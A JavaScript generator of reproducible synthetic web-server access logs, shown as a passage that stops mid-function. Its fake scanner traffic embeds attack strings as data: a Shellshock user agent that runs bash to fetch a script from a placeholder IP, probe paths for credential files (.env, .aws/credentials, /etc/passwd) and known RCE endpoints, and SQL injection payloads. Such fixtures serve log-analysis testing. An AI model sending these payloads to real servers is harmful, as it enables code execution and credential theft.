#!/usr/bin/env node
// Reproducible generator of realistic nginx/Apache *combined* access logs.
//
//   node scripts/gen-log.js --lines N --seed S [--out FILE] [--start ISO] [--gzip]
//                           [--tz +0100] [--flavour apache|nginx]
//
// Writes to stdout without --out. Output is streamed in chunks; nothing holds the whole file.
// The same (lines, seed, start, tz, flavour) always gives the same bytes.
//
// The model: actors (browsers, a mobile app, API scripts, crawlers, scanners, monitors) arrive
// over time; a browser visit is a burst of a page and its assets, then a think time, several
// pages, and sometimes a return after more than 30 minutes (a new session). Some actors share a
// NAT address with other user agents. Lines are written in completion order while the timestamp
// is the request start (as Apache's %t and nginx's $time_local are), which gives the small
// out-of-order steps a real server writes.
//
// Also importable: `generateLines(opts)` yields the lines (without newline), `generateLog(opts)`
// returns them as one string (small logs only), `writeLog(opts, stream)` streams them.

import { createWriteStream } from 'node:fs';
import { createGzip } from 'node:zlib';
import { once } from 'node:events';
import { pipeline } from 'node:stream/promises';
import { fileURLToPath } from 'node:url';
import path from 'node:path';

/**
 * @typedef {object} GenOptions
 * @property {number} lines            number of lines to write
 * @property {number} [seed]           PRNG seed (default 1)
 * @property {string|number|Date} [start] time of the first arrival (default 2024-03-04T00:00:00Z)
 * @property {string} [tz]             server offset like "+0100" or "-0700" (default: picked by the seed)
 * @property {'apache'|'nginx'} [flavour] escaping and "-" vs 0 bytes (default apache)
 */

/** @param {number} seed @returns {() => number} uniform in [0, 1) */
export function mulberry32(seed) {
  let a = seed >>> 0;
  return function () {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rng {
  /** @param {number} seed */
  constructor(seed) {
    this.next = mulberry32(seed);
  }
  /** integer in [lo, hi] */
  int(/** @type {number} */ lo, /** @type {number} */ hi) {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  /** @template T @param {readonly T[]} arr @returns {T} */
  pick(arr) {
    return arr[Math.floor(this.next() * arr.length)];
  }
  chance(/** @type {number} */ p) {
    return this.next() < p;
  }
  /** exponential with the given mean */
  exp(/** @type {number} */ mean) {
    return -Math.log(1 - this.next()) * mean;
  }
  /** log-normal with the given median and sigma (of the underlying normal) */
  logn(/** @type {number} */ median, /** @type {number} */ sigma) {
    const u = 1 - this.next();
    const v = this.next();
    const z = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
    return median * Math.exp(sigma * z);
  }
  /** 1 + geometric number of extra trials, capped */
  count(/** @type {number} */ mean, /** @type {number} */ max) {
    const p = 1 / mean;
    let n = 1;
    while (n < max && !this.chance(p)) n++;
    return n;
  }
  hex(/** @type {number} */ n) {
    let s = '';
    for (let i = 0; i < n; i++) s += HEX[Math.floor(this.next() * 16)];
    return s;
  }
  uuid() {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${HEX[8 + this.int(0, 3)]}${this.hex(3)}-${this.hex(12)}`;
  }
  /** @template T @param {readonly [T, number][]} table @returns {T} */
  weighted(table) {
    let total = 0;
    for (const [, w] of table) total += w;
    let x = this.next() * total;
    for (const [v, w] of table) {
      x -= w;
      if (x < 0) return v;
    }
    return table[table.length - 1][0];
  }
}

const HEX = '0123456789abcdef';
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const TZS = ['+0000', '+0100', '+0200', '-0700', '-0500', '+0530', '+0330', '-0300', '+0900'];
const SEC = 1000;
const MIN = 60 * SEC;
const HOUR = 60 * MIN;

// ---------------------------------------------------------------- user agents

/** @type {[string, number][]} browser user agents with rough popularity weights */
const BROWSER_UAS = [];
{
  const chrome = ['120.0.0.0', '121.0.0.0', '122.0.0.0', '123.0.0.0'];
  for (const v of chrome) {
    const w = v.startsWith('122') ? 4 : v.startsWith('121') ? 3 : 1.5;
    BROWSER_UAS.push([`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v} Safari/537.36`, 10 * w]);
    BROWSER_UAS.push([`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v} Safari/537.36`, 4 * w]);
    BROWSER_UAS.push([`Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v} Safari/537.36`, 1 * w]);
    BROWSER_UAS.push([`Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v} Mobile Safari/537.36`, 8 * w]);
    BROWSER_UAS.push([`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${v} Safari/537.36 Edg/${v.replace('.0.0.0', '.0.2365.52')}`, 2 * w]);
  }
  for (const v of ['122.0', '123.0', '124.0']) {
    BROWSER_UAS.push([`Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${v}) Gecko/20100101 Firefox/${v}`, 4]);
    BROWSER_UAS.push([`Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:${v}) Gecko/20100101 Firefox/${v}`, 1.5]);
    BROWSER_UAS.push([`Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:${v}) Gecko/20100101 Firefox/${v}`, 1]);
  }
  for (const [os, v] of [['17_3_1', '17.3.1'], ['17_2', '17.2'], ['16_6_1', '16.6']]) {
    BROWSER_UAS.push([`Mozilla/5.0 (iPhone; CPU iPhone OS ${os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v} Mobile/15E148 Safari/604.1`, 9]);
    BROWSER_UAS.push([`Mozilla/5.0 (iPad; CPU OS ${os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v} Mobile/15E148 Safari/604.1`, 1.5]);
    BROWSER_UAS.push([`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v} Safari/605.1.15`, 3]);
  }
  BROWSER_UAS.push(['Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36', 2]);
  BROWSER_UAS.push(['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 OPR/108.0.0.0', 1]);
  BROWSER_UAS.push(['Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko', 0.3]);
}

/** Rare user agents with characters a server must escape: a quote, a backslash, non-ASCII. */
const ODD_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 "Brave"',
  'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; "Corp Build 7")',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) C:\\Program Files\\Kiosk\\kiosk.exe',
  'Mozilla/5.0 (Linux; Android 12; Redmi Note 11 Про) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/449.0;FBBV/"556"]'
];

const CRAWLERS = [
  { ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', net: [66, 249, [64, 79]], w: 4 },
  { ua: 'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.94 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', net: [66, 249, [64, 79]], w: 3 },
  { ua: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', net: [157, 55, [39, 39]], w: 3 },
  { ua: 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', net: [5, 255, [231, 231]], w: 1 },
  { ua: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', net: [54, 36, [148, 149]], w: 2 },
  { ua: 'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', net: [185, 191, [171, 171]], w: 1 },
  { ua: 'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)', net: [20, 191, [45, 45]], w: 0.5 }
];

const APP_UAS = [
  'ShopApp/4.12.0 (iPhone; iOS 17.3.1; Scale/3.00)',
  'ShopApp/4.12.0 (Android 14; SM-S911B)',
  'ShopApp/4.11.2 (Android 13; Pixel 7)',
  'okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)'
];
const SCRIPT_UAS = ['python-requests/2.31.0', 'python-requests/2.28.2', 'Go-http-client/1.1', 'axios/1.6.7', 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 'Java/17.0.2', 'PostmanRuntime/7.36.3'];
const CURL_UAS = ['curl/7.81.0', 'curl/8.5.0', 'curl/7.68.0', 'Wget/1.21.2', 'HTTPie/3.2.2'];
const SCANNER_UAS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36',
  '() { :; }; /bin/bash -c "wget http://198.51.100.23/x.sh"'
];
const SQLMAP_UAS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap/1.8#stable (https://sqlmap.org)'];
const MONITOR_UAS = ['Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 'kube-probe/1.28'];

// ---------------------------------------------------------------- the site

const SITE = 'https://shop.example.com';
const EXTERNAL_REFS = [
  'https://www.google.com/', 'https://www.google.de/', 'https://www.bing.com/', 'https://duckduckgo.com/',
  'https://t.co/Xc8rT2bQ1z', 'https://www.reddit.com/r/BuyItForLife/', 'https://news.ycombinator.com/',
  'android-app://com.google.android.gm/', 'https://l.facebook.com/'
];
const CATEGORIES = ['shoes', 'jackets', 'bags', 'outdoor', 'kitchen', 'garden', 'books', 'toys'];
const SEARCH_TERMS = ['red+shoes', 'rain+jacket', 'gift%20ideas', 'backpack+40l', 'espresso', 'lego', 'caf%C3%A9+mug', 'size+44', 'wool+socks'];
const BLOG = ['how-to-wax-a-jacket', 'spring-sale-2024', 'choosing-hiking-boots', 'our-suppliers', 'care-guide-leather', 'release-notes-4-12'];
/** @type {[string, number][]} */
const ASSETS_FIRST = [
  ['/static/css/main.3f9a2c1b.css', 38_211],
  ['/static/js/vendor.8d1e4f2a.js', 211_877],
  ['/static/js/app.b71c09de.js', 64_502],
  ['/static/img/logo.png', 7_412],
  ['/static/fonts/inter-var.woff2', 98_224],
  ['/favicon.ico', 5_430]
];
const USERS = ['alice', 'bob', 'jdoe', 'm.schmidt', 'ops', 'reporting', 'k.tanaka', 'admin'];
const PROBES = [
  '/.env', '/.git/config', '/wp-login.php', '/wp-admin/setup-config.php', '/phpmyadmin/index.php', '/xmlrpc.php',
  '/admin/config.php', '/.aws/credentials', '/server-status', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci/;stok=/locale', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
  '/actuator/env', '/api/v1/../../../../etc/passwd', '/.DS_Store', '/backup.sql', '/config.json', '/boaform/admin/formLogin'
];
const SQLI = [
  '1', "1'", '1%27%20AND%201%3D1--%20-', '1%20AND%201%3D2', '1%27%20OR%20%271%27%3D%271',
  '1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-', '1%29%20AND%20SLEEP%285%29--%20-',
  '1%3BSELECT%20PG_SLEEP%285%29--', '-1%20OR%203%2B574-574-1%3D0%2B0%2B0%2B1', '1%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x71%29%29--'
];

// ---------------------------------------------------------------- escaping and formatting

/**
 * Escape a header value the way the server writes it between quotes.
 * Apache: `"` → `\"`, `\` → `\\`, other non-printable bytes → `\xhh`.
 * nginx: `"`, `\` and non-printable bytes → `\xHH`.
 * @param {string} s @param {'apache'|'nginx'} flavour
 */
export function escapeLogValue(s, flavour) {
  // eslint-disable-next-line no-control-regex
  if (!/["\\\u0000-\u001f\u007f-\uffff]/.test(s)) return s;
  const bytes = Buffer.from(s, 'utf8');
  let out = '';
  for (const b of bytes) {
    if (flavour === 'apache' && (b === 0x22 || b === 0x5c)) out += '\\' + String.fromCharCode(b);
    else if (b === 0x22 || b === 0x5c || b < 0x20 || b > 0x7e) {
      const h = b.toString(16).padStart(2, '0');
      out += '\\x' + (flavour === 'nginx' ? h.toUpperCase() : h);
    } else out += String.fromCharCode(b);
  }
  return out;
}

/** @param {number} n */
const pad2 = (n) => (n < 10 ? '0' + n : '' + n);

/** @param {string} tz "+hhmm" @returns {number} offset in ms */
function tzOffsetMs(tz) {
  const m = /^([+-])(\d\d)(\d\d)$/.exec(tz);
  if (!m) throw new Error(`bad --tz ${tz}, expected like +0100 or -0700`);
  const v = (Number(m[2]) * 60 + Number(m[3])) * MIN;
  return m[1] === '-' ? -v : v;
}

// ---------------------------------------------------------------- a tiny binary heap

/** @typedef {{ key: number, seq: number }} HeapItem */

/** @template {HeapItem} T */
class Heap {
  constructor() {
    /** @type {T[]} */
    this.a = [];
  }
  get size() {
    return this.a.length;
  }
  /** @param {HeapItem} x @param {HeapItem} y */
  static less(x, y) {
    return x.key < y.key || (x.key === y.key && x.seq < y.seq);
  }
  /** @returns {T | undefined} */
  peek() {
    return this.a[0];
  }
  /** @param {T} x */
  push(x) {
    const a = this.a;
    a.push(x);
    let i = a.length - 1;
    while (i > 0) {
      const p = (i - 1) >> 1;
      if (!Heap.less(a[i], a[p])) break;
      [a[i], a[p]] = [a[p], a[i]];
      i = p;
    }
  }
  /** @returns {T} */
  pop() {
    const a = this.a;
    const top = a[0];
    const last = /** @type {T} */ (a.pop());
    if (a.length > 0) {
      a[0] = last;
      let i = 0;
      for (;;) {
        const l = 2 * i + 1;
        const r = l + 1;
        let m = i;
        if (l < a.length && Heap.less(a[l], a[m])) m = l;
        if (r < a.length && Heap.less(a[r], a[m])) m = r;
        if (m === i) break;
        [a[i], a[m]] = [a[m], a[i]];
        i = m;
      }
    }
    return top;
  }
}

// ---------------------------------------------------------------- actors

/**
 * @typedef {object} Req
 * @property {number} t        start, UTC ms
 * @property {number} dur      ms until the line is written
 * @property {string} method
 * @property {string} path
 * @property {string} proto
 * @property {number} status
 * @property {number} bytes
 * @property {string} ref
 * @property {string} [user]
 */

/**
 * @typedef {object} Actor
 * @property {string} ip
 * @property {string} ua         raw user agent
 * @property {string} uaLog      as written in the log
 * @property {Generator<Req, void, void>} script
 */

/** @param {Rng} r */
function ipv4(r) {
  // Plausible public ranges, never 0/8, 10/8, 127/8, multicast.
  const first = r.pick([23, 31, 37, 46, 62, 77, 78, 79, 81, 82, 84, 85, 86, 88, 89, 90, 91, 93, 94, 95, 109, 141, 176, 178, 185, 188, 193, 195, 212, 213, 217, 24, 50, 64, 67, 68, 71, 73, 76, 98, 99, 104, 107, 108, 172, 174, 184, 186, 187, 189, 190, 200, 201, 1, 14, 27, 36, 39, 42, 49, 58, 101, 103, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 175, 180, 182, 183, 202, 203, 210, 211, 218, 219, 220, 221, 222]);
  return `${first}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
}

/** @param {Rng} r */
function ipv6(r) {
  const prefix = r.pick(['2a02:8108:1c0', '2001:41d0:8', '2a01:e0a:2f1', '2600:1700:3d40', '2a00:23c5:e1a', '2409:8a1e:6c52']);
  const h = () => r.int(0, 0xffff).toString(16);
  return r.chance(0.5) ? `${prefix}:${h()}::${h()}` : `${prefix}:${h()}:${h()}:${h()}:${h()}:${h()}`;
}

/**
 * Generate the lines of a combined log.
 * @param {GenOptions} opts
 * @returns {Generator<string, void, void>}
 */
export function* generateLines(opts) {
  const total = Math.max(0, Math.floor(opts.lines));
  const seed = opts.seed ?? 1;
  const r = new Rng(seed);
  const startMs = opts.start === undefined ? Date.UTC(2024, 2, 4) : new Date(opts.start).getTime();
  if (!Number.isFinite(startMs)) throw new Error(`bad start time ${opts.start}`);
  const flavour = opts.flavour ?? 'apache';
  const tz = opts.tz ?? TZS[((seed % TZS.length) + TZS.length) % TZS.length];
  const offMs = tzOffsetMs(tz);

  // Span of the log grows slowly with its size: 3 h for the demo, two days for a million lines.
  const spanMs = Math.min(48, 3 + total / 20000) * HOUR;
  const meanArrival = spanMs / Math.max(1, total / 28);

  let lastSec = NaN;
  let lastStamp = '';
  /** @param {number} ms */
  const stamp = (ms) => {
    const sec = Math.floor(ms / 1000);
    if (sec !== lastSec) {
      const d = new Date(sec * 1000 + offMs);
      lastStamp = `${pad2(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} ${tz}`;
      lastSec = sec;
    }
    return lastStamp;
  };
  /** @param {number} b @param {number} status @param {string} method */
  const bytesField = (b, status, method) => {
    if (status === 304 || status === 204 || method === 'HEAD') b = 0;
    return b === 0 && flavour === 'apache' ? '-' : String(b);
  };
  const proto = () => (flavour === 'nginx' && r.chance(0.6) ? 'HTTP/2.0' : 'HTTP/1.1');
  const fast = () => Math.floor(r.logn(40, 0.9));
  const slow = () => (r.chance(0.02) ? r.int(1500, 6000) : fast());

  // Recent addresses, so a new actor sometimes sits behind the same NAT as an earlier one.
  /** @type {string[]} */
  const recentIps = [];
  /** @param {string} ip */
  const remember = (ip) => {
    recentIps.push(ip);
    if (recentIps.length > 300) recentIps.shift();
  };
  const clientIp = () => {
    if (recentIps.length > 20 && r.chance(0.08)) return r.pick(recentIps);
    const ip = r.chance(0.04) ? ipv6(r) : ipv4(r);
    remember(ip);
    return ip;
  };

  /** A gap between two visits of the same actor (from the last request of the previous one). */
  const returnGap = () =>
    r.weighted([
      [() => 30 * MIN + r.int(1, 4 * 3600) * SEC, 80], // a new session
      [() => r.int(10 * 60, 29 * 60) * SEC, 12], // comes back in time: same session
      [() => 30 * MIN, 4], // exactly the timeout: same session
      [() => 30 * MIN + SEC, 4] // one second more: a new session
    ])();

  // ---- browser: page + assets, xhr, think time; a few visits
  /** @param {number} t0 @param {{ user?: string }} who @returns {Generator<Req, void, void>} */
  function* browser(t0, who) {
    let t = t0;
    const pr = proto();
    const visits = r.count(1.6, 5);
    for (let v = 0; v < visits; v++) {
      let ref = r.chance(0.55) ? r.pick(EXTERNAL_REFS) : '-';
      const pages = r.count(5, 40);
      let cached = v > 0 && r.chance(0.7);
      let authed = false;
      let lastT = t;
      for (let p = 0; p < pages; p++) {
        const kind = r.weighted([
          ['home', p === 0 ? 6 : 1], ['list', 4], ['product', 7], ['search', 2], ['blog', 1.5], ['cart', 1.2],
          ['checkout', 0.4], ['account', 0.6], ['admin', who.user ? 3 : 0], ['missing', 0.3]
        ]);
        const id = r.int(1000, 99999);
        let path = '/';
        let status = 200;
        let bytes = r.int(18_000, 64_000);
        let method = 'GET';
        let user;
        if (kind === 'list') path = `/products?category=${r.pick(CATEGORIES)}${r.chance(0.4) ? `&page=${r.int(2, 9)}` : ''}${r.chance(0.2) ? '&sort=price_asc' : ''}`;
        else if (kind === 'product') path = r.chance(0.15) ? `/products/${id}/reviews?page=${r.int(1, 4)}` : `/products/${id}`;
        else if (kind === 'search') path = `/search?q=${r.pick(SEARCH_TERMS)}`;
        else if (kind === 'blog') path = `/blog/${r.pick(BLOG)}`;
        else if (kind === 'cart') path = '/cart';
        else if (kind === 'checkout') {
          path = '/checkout';
          if (r.chance(0.5)) method = 'POST';
        } else if (kind === 'account') {
          path = r.chance(0.5) ? '/account' : `/account/orders/${r.uuid()}`;
          status = r.chance(0.3) ? 302 : 200;
        } else if (kind === 'admin') {
          path = r.pick(['/admin/', '/admin/reports?range=7d', `/admin/orders/${r.uuid()}`, `/admin/users/${id}`]);
          if (!authed) {
            // HTTP basic auth: the first request is challenged, the retry carries the user.
            yield { t, dur: fast(), method, path, proto: pr, status: 401, bytes: 381, ref };
            t += r.int(2, 9) * SEC;
            authed = true;
          }
          user = who.user;
        } else if (kind === 'missing') {
          path = r.pick(['/products/old-catalogue.pdf', '/img/banner_2019.jpg', `/products/${id}/`, '/apple-touch-icon.png']);
          status = 404;
          bytes = 153;
        }
        if (status === 200 && r.chance(0.004)) status = 500;
        yield { t, dur: slow(), method, path, proto: pr, status, bytes, ref, user };
        lastT = t;
        // Assets of the page, right after it.
        const pageUrl = SITE + path;
        if (!cached && status === 200) {
          let at = t;
          for (const [asset, size] of ASSETS_FIRST) {
            at += r.int(0, 350);
            yield { t: at, dur: fast(), method: 'GET', path: asset, proto: pr, status: 200, bytes: size, ref: pageUrl, user };
          }
          lastT = at;
          cached = true;
        } else if (status === 200 && r.chance(0.3)) {
          const at = t + r.int(50, 900);
          yield { t: at, dur: fast(), method: 'GET', path: r.pick(ASSETS_FIRST)[0], proto: pr, status: 304, bytes: 0, ref: pageUrl, user };
          lastT = at;
        }
        if (kind === 'product' && status === 200) {
          let at = lastT;
          const imgs = r.int(1, 4);
          for (let i = 0; i < imgs; i++) {
            at += r.int(20, 400);
            yield { t: at, dur: fast(), method: 'GET', path: `/media/products/${id}-${i + 1}.${r.chance(0.7) ? 'jpg' : 'png'}`, proto: pr, status: r.chance(0.03) ? 404 : 200, bytes: r.int(20_000, 320_000), ref: pageUrl, user };
          }
          at += r.int(100, 1500);
          yield { t: at, dur: fast(), method: 'GET', path: `/api/v1/products/${id}/stock`, proto: pr, status: 200, bytes: r.int(60, 140), ref: pageUrl, user };
          if (r.chance(0.2)) {
            at += r.int(3, 40) * SEC;
            yield { t: at, dur: fast(), method: 'POST', path: '/api/v1/cart/items', proto: pr, status: 201, bytes: r.int(200, 900), ref: pageUrl, user };
          }
          lastT = at;
        }
        if (r.chance(0.25)) {
          const at = lastT + r.int(200, 3000);
          yield { t: at, dur: fast(), method: 'POST', path: `/api/v1/events?v=2&sid=${r.hex(16)}`, proto: pr, status: 204, bytes: 0, ref: pageUrl, user };
          lastT = at;
        }
        ref = pageUrl;
        // Think time before the next page: seconds to minutes, under the timeout.
        t = lastT + Math.min(25 * MIN, Math.max(1500, r.logn(25 * SEC, 1.1)));
      }
      if (v + 1 < visits) t = Math.floor(lastT / SEC) * SEC + returnGap() + r.int(0, 999);
    }
  }

  // ---- the mobile app: API calls with ids, several sessions a day
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* app(t0) {
    let t = t0;
    const visits = r.count(2, 6);
    const userId = r.int(10_000, 99_999);
    for (let v = 0; v < visits; v++) {
      let lastT = t;
      const calls = r.count(12, 80);
      for (let c = 0; c < calls; c++) {
        const id = r.int(1000, 99999);
        const call = r.weighted([
          [['GET', `/api/v1/products?page=${r.int(1, 20)}&limit=${r.pick([20, 50])}`, 200, r.int(4000, 30000)], 5],
          [['GET', `/api/v1/products/${id}`, r.chance(0.03) ? 404 : 200, r.int(900, 4000)], 6],
          [['GET', `/api/v1/users/${userId}`, 200, r.int(300, 900)], 2],
          [['GET', `/api/v1/users/${userId}/orders?status=open`, 200, r.int(100, 3000)], 1],
          [['GET', `/api/v1/orders/${r.uuid()}`, 200, r.int(500, 2000)], 1],
          [['POST', '/api/v1/cart/items', 201, r.int(200, 900)], 1.5],
          [['DELETE', `/api/v1/cart/items/${r.hex(24)}`, 204, 0], 0.5],
          [['PUT', `/api/v1/users/${userId}/preferences`, 200, r.int(80, 200)], 0.3],
          [['POST', '/api/v1/auth/refresh', r.chance(0.1) ? 401 : 200, r.int(300, 700)], 0.5]
        ]);
        let status = /** @type {number} */ (call[2]);
        if (status === 200 && r.chance(0.005)) status = r.pick([500, 502, 503, 429]);
        yield { t, dur: slow(), method: /** @type {string} */ (call[0]), path: /** @type {string} */ (call[1]), proto: 'HTTP/1.1', status, bytes: /** @type {number} */ (call[3]), ref: '-' };
        lastT = t;
        t += Math.min(20 * MIN, Math.max(200, r.logn(6 * SEC, 1.2)));
      }
      t = Math.floor(lastT / SEC) * SEC + returnGap() + r.int(0, 999);
    }
  }

  // ---- a script: regular timing, walks object ids (BOLA-like enumeration) or polls
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* script(t0) {
    let t = t0;
    const n = r.int(30, 400);
    let id = r.int(1000, 50000);
    const step = r.int(300, 2500);
    const kind = r.pick(['users', 'orders', 'invoices']);
    for (let i = 0; i < n; i++) {
      const useHex = kind === 'invoices';
      const path = useHex ? `/api/v1/invoices/${r.hex(24)}` : `/api/v1/${kind}/${id++}`;
      const status = r.weighted([[200, 6], [404, 3], [401, 1], [403, 0.5]]);
      yield { t, dur: fast(), method: 'GET', path, proto: 'HTTP/1.1', status, bytes: status === 200 ? r.int(300, 2000) : r.int(40, 120), ref: '-' };
      t += step + r.int(-40, 40);
    }
  }

  // ---- curl & co: a few requests
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* curl(t0) {
    let t = t0;
    const n = r.int(1, 6);
    for (let i = 0; i < n; i++) {
      const [method, path, status, bytes] = r.pick([
        ['GET', '/', 200, 31_204], ['HEAD', '/', 200, 0], ['GET', '/api/v1/status', 200, 57],
        ['GET', '/health', 200, 2], ['GET', `/api/v1/products?page=1&q=${r.pick(SEARCH_TERMS)}`, 200, 14_022],
        ['POST', '/api/v1/auth/token', 401, 96], ['GET', '/robots.txt', 200, 311]
      ]);
      yield { t, dur: fast(), method: /** @type {string} */ (method), path: /** @type {string} */ (path), proto: 'HTTP/1.1', status: /** @type {number} */ (status), bytes: /** @type {number} */ (bytes), ref: '-' };
      t += r.int(1, 90) * SEC;
    }
  }

  // ---- crawlers: robots.txt then pages every few seconds
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* crawler(t0) {
    let t = t0;
    const n = r.int(10, 250);
    yield { t, dur: fast(), method: 'GET', path: '/robots.txt', proto: 'HTTP/1.1', status: 200, bytes: 311, ref: '-' };
    const pace = r.int(2, 30) * SEC;
    for (let i = 0; i < n; i++) {
      t += Math.max(300, Math.floor(r.logn(pace, 0.6)));
      const path = r.weighted([
        [`/products/${r.int(1000, 99999)}`, 6], [`/products?category=${r.pick(CATEGORIES)}&page=${r.int(1, 30)}`, 3],
        [`/blog/${r.pick(BLOG)}`, 1], ['/sitemap.xml', 0.3], [`/media/products/${r.int(1000, 99999)}-1.jpg`, 1]
      ]);
      const status = r.weighted([[200, 90], [404, 6], [301, 3], [500, 0.3]]);
      yield { t, dur: slow(), method: 'GET', path, proto: 'HTTP/1.1', status, bytes: status === 200 ? r.int(8000, 60000) : r.int(150, 400), ref: '-' };
    }
  }

  // ---- scanners: probes for well-known files, mostly 404, quickly
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* scanner(t0) {
    let t = t0;
    const n = r.int(5, 60);
    for (let i = 0; i < n; i++) {
      const path = r.pick(PROBES);
      const method = r.chance(0.1) ? 'POST' : 'GET';
      const status = path === '/server-status' ? 403 : r.chance(0.92) ? 404 : 400;
      yield { t, dur: fast(), method, path, proto: r.chance(0.3) ? 'HTTP/1.0' : 'HTTP/1.1', status, bytes: r.int(150, 600), ref: '-' };
      t += r.int(100, 3000);
    }
  }

  // ---- sqlmap: one parameter, many payloads, fast
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* sqlmap(t0) {
    let t = t0;
    const n = r.int(60, 400);
    const target = r.pick(['/products?id=', '/search?q=', '/api/v1/products?category=']);
    for (let i = 0; i < n; i++) {
      const status = r.weighted([[200, 6], [500, 3], [403, 1]]);
      yield { t, dur: slow(), method: 'GET', path: target + r.pick(SQLI) + (r.chance(0.3) ? `&${r.hex(4)}=${r.int(1, 9999)}` : ''), proto: 'HTTP/1.1', status, bytes: r.int(150, 40000), ref: '-' };
      t += r.int(80, 1200);
    }
  }

  // ---- monitors: one request a minute, for the whole log (one long session)
  /** @param {number} t0 @returns {Generator<Req, void, void>} */
  function* monitor(t0) {
    let t = t0;
    const every = r.pick([60, 60, 300]) * SEC;
    for (;;) {
      yield { t, dur: fast(), method: r.chance(0.5) ? 'HEAD' : 'GET', path: '/health', proto: 'HTTP/1.1', status: r.chance(0.998) ? 200 : 503, bytes: 2, ref: '-' };
      t += every + r.int(-300, 300);
    }
  }

  let browsers = 0;
  /** @param {number} t0 @returns {Actor} */
  const newActor = (t0) => {
    const kind = r.weighted([
      ['browser', 85], ['app', 8], ['crawler', 2.2], ['script', 0.8], ['curl', 1.8], ['scanner', 1.8], ['sqlmap', 0.3]
    ]);
    let ip;
    let ua;
    /** @type {Generator<Req, void, void>} */
    let gen;
    if (kind === 'browser') {
      ip = clientIp();
      // Rare but never absent: about one browser in 90 has a user agent the server must escape.
